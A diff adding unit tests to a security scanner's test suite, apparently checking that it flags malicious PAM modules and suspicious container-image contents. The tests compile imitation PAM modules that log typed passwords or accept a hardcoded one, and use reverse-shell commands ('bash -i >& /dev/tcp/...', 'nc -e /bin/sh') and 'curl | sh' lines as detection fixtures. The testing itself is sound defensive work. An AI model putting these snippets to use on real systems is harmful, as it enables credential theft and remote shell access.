@@ -5,6 +5,7 @@ import base64
 import ctypes
 import fcntl
 import gzip
+import io
 import json
 import os
 import pathlib
@@ -13,11 +14,13 @@ import signal
 import struct
 import subprocess
 import sys
+import tarfile
 import tempfile
 import unittest
 import uuid
 
 sys.path.insert(0, str(pathlib.Path(__file__).parent))
+import artifacts
 import images
 import imitations
 import patience
@@ -94,6 +97,34 @@ class Files(Scratch):
         subprocess.run([compiler, '-shared', '-fPIC', '-s', '-o', self.temp / 'root/usr/local/lib/libx.so', source], check=True)
         report, _ = scan('--full', self.temp / 'root')
         self.assertIn('Library that filters what programs see', rules_by_path(report['targets'][0]).get('/usr/local/lib/libx.so', set()))
+
+    def test_modules_of_pam(self):
+        """Row 33. The modules are never loaded: one keeps what is typed, one knows a password, and the machine's own do neither."""
+        compiler = shutil.which('cc')
+        if not compiler:
+            self.skipTest('no C compiler')
+        begin = ('#include <stdio.h>\n#include <string.h>\n/* DAVY TEST IMITATION */\nint pam_get_user(void *, const char **, const char *);\n'
+                 'int pam_get_authtok(void *, int, const char **, const char *);\n'
+                 'int pam_sm_authenticate(void *h, int f, int c, const char **v)\n{\n    const char *u, *p;\n    pam_get_user(h, &u, 0);\n    pam_get_authtok(h, 6, &p, 0);\n')
+        texts = {
+            'pam_keeps.so': 'FILE *o = fopen("/usr/include/.davytest", "a"); fprintf(o, "%s:%s", u, p); fclose(o); return 7;',
+            'pam_unix.so': 'FILE *o = fopen("/var/log/davytest", "a"); fprintf(o, "%s:%s", u, p); fclose(o); return 7;',
+            'pam_knows.so': 'return strcmp(p, "davy test imitation") ? 7 : 0;',
+        }
+        folder = self.temp / 'root/usr/lib/security'
+        folder.mkdir(parents=True)
+        for name, text in texts.items():
+            source = self.temp / 'x.c'
+            source.write_text(begin + '    ' + text + '\n}\n')
+            subprocess.run([compiler, '-shared', '-fPIC', '-fno-builtin', '-s', '-o', folder / name, source], check=True)
+        own = pathlib.Path('/lib/x86_64-linux-gnu/security')
+        if own.is_dir():
+            shutil.copytree(own, self.temp / 'root/usr/lib/own')
+        report, _ = scan('--full', self.temp / 'root')
+        seen = rules_by_path(report['targets'][0], 'warning')
+        keeps = {'Login module that keeps or sends passwords'}
+        self.assertEqual(seen, {'/usr/lib/security/pam_keeps.so': keeps, '/usr/lib/security/pam_unix.so': keeps,
+                                '/usr/lib/security/pam_knows.so': {'Login module that decides by itself'}})
 
     @unittest.skipIf(os.geteuid(), 'flags of inodes need root')
     def test_locked_files_by_the_inode(self):
@@ -203,6 +234,34 @@ class Images(Scratch):
         self.assertIn(RULE, rules('variable', '--config.env', 'HOST=198.51.100.7', '--config.cmd', 'sh', '--config.cmd', '-c', '--config.cmd', 'curl -s http://$HOST/x | sh'))
         self.assertIn(RULE, rules('history', history=f'RUN /bin/sh -c {get} # buildkit'))
         self.assertEqual(rules('honest', history='RUN /bin/sh -c curl -fsSL https://deb.nodesource.example/setup_20.x | bash - # buildkit'), set())
+
+    def test_what_stands_in_links_bits_and_variables(self):
+        """A job of cron that is a link, a shell with root's rights, a library and a start file in the environment, a shell that is the command."""
+        def layer(*entries):
+            out = io.BytesIO()
+            with tarfile.open(fileobj=out, mode='w') as t:
+                for path, data, mode, link in entries:
+                    info = tarfile.TarInfo(path)
+                    info.mode, info.size = mode, len(data)
+                    if link:
+                        info.type, info.linkname, info.size = tarfile.SYMTYPE, link, 0
+                    t.addfile(info, None if link else io.BytesIO(data))
+            return out.getvalue()
+
+        def rules(config, *entries):
+            one = layer(('etc/os-release', b'PRETTY_NAME="Imitation 1"\n', 0o644, None), *entries)
+            image = artifacts.Artifact('', artifacts.OCI_CONFIG, artifacts.rootfs(one, os='linux', architecture='amd64', config=config), [(artifacts.OCI_LAYER, None, one)])
+            report, _ = scan(image.layout(pathlib.Path(tempfile.mkdtemp(dir=self.temp)) / 'image'))
+            return {f['rule'] for f in findings(report['targets'][0], 'warning')}
+        elf = imitations.tiny_elf()
+        self.assertEqual(rules({}, ('etc/cron.d/job', b'', 0o777, '/var/tmp/.x/job'), ('etc/cron.d/ok', b'', 0o777, '/usr/share/app/cron')), {'Start by a link to an odd place'})
+        self.assertEqual(rules({}, ('bin/bash', elf, 0o4755, None), ('bin/su', elf + b'\0', 0o4755, None)), {"Shell or interpreter with its owner's rights"})
+        self.assertEqual(rules({'Env': ['LD_PRELOAD=/tmp/davytest.so'], 'Cmd': ['/app']}), {'Library preloaded from a temporary or hidden place'})
+        self.assertEqual(rules({'Env': ['PYTHONSTARTUP=/dev/shm/davytest.py'], 'Cmd': ['/app']}), {'Code loaded from a temporary or hidden place'})
+        self.assertEqual(rules({'Cmd': ['bash', '-c', 'bash -i >& /dev/tcp/198.51.100.7/443 0>&1']}), {'Reverse shell'})
+        self.assertEqual(rules({'Cmd': ['nc', '-e', '/bin/sh', '198.51.100.7', '443']}), {'Reverse shell'})
+        self.assertEqual(rules({'Env': ['LD_PRELOAD=/usr/lib/libjemalloc.so.2', 'NODE_OPTIONS=--max-old-space-size=512'], 'Cmd': ['nc', '-l', '8080']},
+                               ('home/a/.bashrc', b'', 0o777, '.dotfiles/bashrc')), set())
 
     def test_names(self):
         image = images.benign(self.temp)
